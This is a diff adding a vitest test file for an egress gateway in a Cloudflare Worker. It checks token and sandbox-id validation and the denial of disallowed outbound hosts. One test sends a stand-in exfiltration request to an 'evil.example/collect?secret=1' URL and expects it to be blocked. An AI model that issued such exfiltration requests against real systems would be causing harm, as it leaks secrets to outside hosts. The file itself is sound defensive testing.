@@ -1,0 +1,93 @@
+/** The door of the one-machine gateway in the real Worker: who may hand in requests, and whose they are. */
+import { exports } from 'cloudflare:workers';
+import { beforeAll, expect, it } from 'vitest';
+import { authorization, recordOf, sandboxIdOf, taskRequest } from './task.ts';
+
+const token = 'the-gateway-of-the-tests';
+
+async function handIn(headers: Record<string, string>, url = 'https://github.com/'): Promise<Response> {
+  return await exports.EgressGateway.fetch(new Request(url, { headers }));
+}
+
+beforeAll(async () => {
+  const record = recordOf('door');
+  await record.open(taskRequest('door'));
+  await record.authorized(authorization());
+  await record.grantPhase('run');
+});
+
+it.each([
+  ['no token', {}],
+  ['an empty token', { 'x-airlock-token': '' }],
+  ['another token', { 'x-airlock-token': 'the-gateway-of-the-tesst' }],
+  ['the beginning of the token', { 'x-airlock-token': token.slice(0, -1) }],
+  ['more than the token', { 'x-airlock-token': `${token}x` }],
+  ['the token in other case', { 'x-airlock-token': token.toUpperCase() }],
+])('refuses %s, and counts nothing', async (_, headers) => {
+  const before = (await recordOf('door').admitEgress())?.used.requests ?? Number.NaN;
+  const answer = await handIn({ 'x-airlock-sandbox': sandboxIdOf('door'), ...headers });
+  expect([answer.status, await answer.text()]).toEqual([403, '']);
+  expect((await recordOf('door').admitEgress())?.used.requests).toBe(before + 1);
+});
+
+it.each([
+  ['none', {}],
+  ['an empty one', { 'x-airlock-sandbox': '' }],
+  ['too short', { 'x-airlock-sandbox': 'ab12' }],
+  ['too long', { 'x-airlock-sandbox': `${'a'.repeat(64)}b` }],
+  ['in upper case', { 'x-airlock-sandbox': 'A'.repeat(64) }],
+  ['not hexadecimal', { 'x-airlock-sandbox': 'g'.repeat(64) }],
+  ['two of them', { 'x-airlock-sandbox': `${'a'.repeat(64)}, ${'b'.repeat(64)}` }],
+])('refuses a sandbox id that is %s', async (_, headers) => {
+  const answer = await handIn({ 'x-airlock-token': token, ...headers });
+  expect([answer.status, await answer.text()]).toEqual([400, '']);
+});
+
+it('has no grant for a sandbox that it does not know', async () => {
+  const answer = await handIn({ 'x-airlock-token': token, 'x-airlock-sandbox': 'c'.repeat(64) });
+  expect(answer.status).toBe(403);
+  expect(await answer.json()).toMatchObject({ error: { code: 'grant.none' } });
+});
+
+it('decides for a sandbox that it knows, and records it', async () => {
+  const answer = await handIn(
+    { 'x-airlock-token': token, 'x-airlock-sandbox': sandboxIdOf('door') },
+    'https://evil.example/collect?secret=1',
+  );
+  expect(answer.status).toBe(403);
+  expect((await recordOf('door').view())?.receipt.denied).toEqual([
+    expect.objectContaining({ host: 'evil.example', path: '/collect', count: 1 }),
+  ]);
+});
+
+it('mints a token for what is allowed, and shows nothing of an upstream that cannot be reached', async () => {
+  // No GitHub web host is there in these tests: reaching for it throws.
+  const answer = await handIn(
+    { 'x-airlock-token': token, 'x-airlock-sandbox': sandboxIdOf('door') },
+    'https://github.com/acme/split.git/info/refs?service=git-upload-pack',
+  );
+  expect(answer.status).toBe(502);
+  expect(await answer.json()).toEqual({
+    error: {
+      message: 'Airlock: the request could not be carried out',
+      type: 'airlock_egress',
+      code: 'internal',
+      param: null,
+    },
+  });
+});
+
+it('only records what the gateway has refused itself', async () => {
+  const answer = await handIn(
+    {
+      'x-airlock-token': token,
+      'x-airlock-sandbox': sandboxIdOf('door'),
+      'x-airlock-refused': 'host.conflict',
+    },
+    'http://two-hosts.example/',
+  );
+  expect(answer.status).toBe(204);
+  expect((await recordOf('door').view())?.receipt.denied).toContainEqual(
+    expect.objectContaining({ host: 'two-hosts.example', rule: 'gateway.host.conflict' }),
+  );
+});
